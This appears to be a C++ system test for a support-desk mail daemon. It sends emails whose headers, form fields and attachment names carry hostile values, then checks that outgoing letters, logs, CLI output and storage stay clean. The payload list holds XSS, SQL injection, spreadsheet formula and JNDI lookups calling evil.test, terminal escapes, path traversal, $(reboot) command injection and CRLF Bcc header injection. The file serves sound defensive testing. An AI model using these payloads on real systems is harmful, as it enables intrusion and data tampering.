/// A form whose every value attacks whoever shows it, through the running daemon and on to all who read it:
/// the vendor's and the team's letters, the log, the tool, the store.
#include <fmt/format.h>
#include <gmock/gmock.h>

#include <set>
#include <sstream>

#include "daemon/log.hpp"
#include "templates/plain_value.hpp"
#include "tests/system/desk_test.hpp"

namespace oin::test {
namespace {

using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;

const std::vector<std::string> hostile = {
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "</td></table><style>*{display:none}</style><!--",
    "{{title}} {{{title}}} {{#issues}}x{{/issues}} {{> _footer/text}} {{=<% %>=}}",
    "'); DROP TABLE ticket; -- \" OR 1=1",
    "=HYPERLINK(\"https://evil.test\";\"x\") +cmd|' /C calc'!A0",
    "\x1b[2J\x1b]0;owned\x07 \xc2\x9b"
    "31m",
    "\xe2\x80\xaegnp.exe\xe2\x81\xa6 \xe2\x80\xa8letter.sent ticket=OIN-9",
    "../../../../etc/passwd CON NUL COM1",
    "%n%n%s%s {} {0} ${jndi:ldap://evil.test/x} $(reboot) `reboot`",
};

const char* const labels[] = {"App name",           "App website",      "App description",
                              "Developer org",      "ACS URL",          "Audience URI",
                              "Attribute",          "Support contacts", "URL",
                              "Escalation contact", "Base URL",         "A label nobody knows",
                              "Okta instance URL"};

/// A field is a form's last word on its label.
std::string hostile_form(const std::string& value) {
  std::string text = form("Acme CRM");
  for (const char* label : labels) {
    const auto at = text.find(std::string("\n") + label + ": ");
    if (at == std::string::npos)
      text += std::string(label) + ": " + value + "\n";
    else
      text.replace(at + 1, text.find('\n', at + 1) - at - 1, std::string(label) + ": " + value);
  }
  return text;
}

/// An encoded word holds what no header field may: a line end.
std::string encoded(const std::string& value) {
  std::string out = "=?utf-8?Q?";
  for (const char c : value) out += fmt::format("={:02X}", static_cast<unsigned char>(c));
  return out + "?=";
}

/// Every field that the desk or the servers of this test write into a letter.
const std::set<std::string> own_fields = {
    "Return-Path", "Delivered-To", "Received",     "X-Original-To",    "Authentication-Results",
    "Date",        "From",         "To",           "Reply-To",         "Subject",
    "Message-ID",  "In-Reply-To",  "References",   "Auto-Submitted",   "X-Auto-Response-Suppress",
    "List-Id",     "Thread-Topic", "Thread-Index", "Content-Language", "MIME-Version",
    "Content-Type"};

class HostileValues : public DeskTest {};

TEST_F(HostileValues, HarmNobodyWhoReadsThem) {
  // The team hears of each question, so that its letters are looked at too.
  configure(
      {{"workflow", "[notices]\ndigest_at = \"\"\n"},
       {"end", "[[person]]\nname = \"Sam\"\naddress = \"support@bulk.test\"\nroles = [\"support\"]\n"}});
  start_ready();
  int number = 0;
  for (const std::string& value : hostile) {
    const std::string id = fmt::format("h{}@acme.test", ++number);
    drop(
        "oin@oind.test",
        "From: " + encoded(value + "\r\nBcc: victim@acme.test") + " <vendor@acme.test>\nTo: oin@oind.test\n" +
            "Subject: " + encoded(value + "\r\nBcc: victim@acme.test\r\n\r\nbody") + "\nMessage-ID: <" + id +
            ">\nDate: Mon, 23 Nov 2026 10:00:00 +0000\nMIME-Version: 1.0\n"
            "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain; charset=utf-8\n\n" +
            hostile_form(value) +
            "\n--b\nContent-Type: image/png\nContent-Disposition: attachment; filename*=" + "utf-8''" +
            [&] {
              std::string percent;
              for (const char c : value + "/../x.png")
                percent += fmt::format("%{:02X}", static_cast<unsigned char>(c));
              return percent;
            }() +
            "\n\nx\n--b--\n");
  }
  settle();
  ASSERT_EQ(ask({"tickets"}).size(), hostile.size());
  number = 0;
  for (const std::string& value : hostile)
    drop("developers@oind.test", message(encoded(value) + " <vendor@acme.test>", "developers@oind.test",
                                         encoded(value + "\r\nBcc: x@y.test"),
                                         "How do I test group push in our dev org?\n" + value + "\n",
                                         fmt::format("q{}@acme.test", ++number)));
  settle();
  const std::size_t tickets = 2 * hostile.size();
  ASSERT_EQ(ask({"tickets"}).size(), tickets);

  // Letters: the fields the desk writes and no others, markup that is only its own, and one addressee.
  ASSERT_TRUE(eventually([&] { return letters("vendor@acme.test").size() >= tickets; }));
  auto all = letters("vendor@acme.test");
  ASSERT_TRUE(eventually([&] { return letters("bulk@bulk.test").size() >= hostile.size(); }));
  const auto team = letters("bulk@bulk.test");
  all.insert(all.end(), team.begin(), team.end());
  for (const Mail& letter : all) {
    for (const HeaderField& field : letter.header)
      EXPECT_TRUE(own_fields.contains(field.name)) << field.name << ": " << log::field(field.body);
    EXPECT_THAT(letter.cc, IsEmpty());
    EXPECT_EQ(letter.to.size(), 1u);
    EXPECT_THAT(letter.defects, IsEmpty());
    EXPECT_EQ(plain_value(letter.subject), letter.subject);
    EXPECT_EQ(plain_value(letter.text), letter.text);
    const std::string html = letter.html.value_or("");
    for (const char* markup : {"<script", "<img", "onerror=alert(2)>", "<style>*", "</table><style"})
      EXPECT_THAT(html, Not(HasSubstr(markup))) << letter.subject;
  }

  // The log: each line is one of the daemon's own.
  std::istringstream lines(log());
  for (std::string line; std::getline(lines, line);) {
    EXPECT_TRUE(line.starts_with("20")) << line;
    EXPECT_EQ(plain_value(line), line);
    EXPECT_THAT(line, Not(HasSubstr("\x1b")));
  }

  // The tool: nothing that steers a terminal, and as many lines for each title as for any.
  for (const std::vector<std::string>& verb : std::vector<std::vector<std::string>>{
           {"tickets"}, {"outbox", "--all"}, {"status"}, {"quarantine"}, {"ticket", "1"}, {"ticket", "6"}}) {
    const Output words = oinctl(verb);
    EXPECT_EQ(words.status, 0) << words.err;
    EXPECT_EQ(plain_value(words.out), words.out) << verb[0];
    auto as_json = verb;
    as_json.push_back("--json");
    const std::string json = oinctl(as_json).out;
    EXPECT_THAT(json, Not(testing::AnyOf(HasSubstr("\x1b"), HasSubstr("\xc2\x9b")))) << verb[0];
    EXPECT_FALSE(nlohmann::json::parse(json, nullptr, false).is_discarded()) << verb[0];
  }
  const std::string list = oinctl({"tickets"}).out;
  EXPECT_EQ(static_cast<std::size_t>(std::ranges::count(list, '\n')), tickets);

  // On a terminal a raw mail steers nothing either; into a file it goes byte by byte.
  const std::vector<std::string> raw = {"ticket", "6", "--mail", "1"};
  EXPECT_THAT(oinctl(raw).out, HasSubstr("\x1b[2J"));
  const Output on_terminal = run({"script", "--quiet", "--return", "--command",
                                  std::string(OIND_BUILD_DIR) + "/oinctl --config " +
                                      (folder_ / "oind.toml").string() + " ticket 6 --mail 1",
                                  "/dev/null"});
  EXPECT_THAT(on_terminal.out, HasSubstr("App name:"));
  EXPECT_THAT(on_terminal.out, Not(testing::AnyOf(HasSubstr("\x1b"), HasSubstr("\xc2\x9b"))));

  // The store: searched for, each is text.
  for (const std::string& value : hostile)
    EXPECT_LE(ask({"tickets", "--search", value}).size(), 2u) << log::field(value);
  EXPECT_EQ(ask({"tickets"}).size(), tickets);

  // No file of the sender's naming anywhere in the desk's folder.
  for (const auto& entry : std::filesystem::directory_iterator(folder_))
    EXPECT_THAT(entry.path().filename().string(),
                testing::AnyOf("mail", "oind.log", testing::StartsWith("oind."), "workflow.toml",
                               "signing.key", "password"));
  EXPECT_EQ(stop_desk(), 0);
}

}  // namespace
}  // namespace oin::test
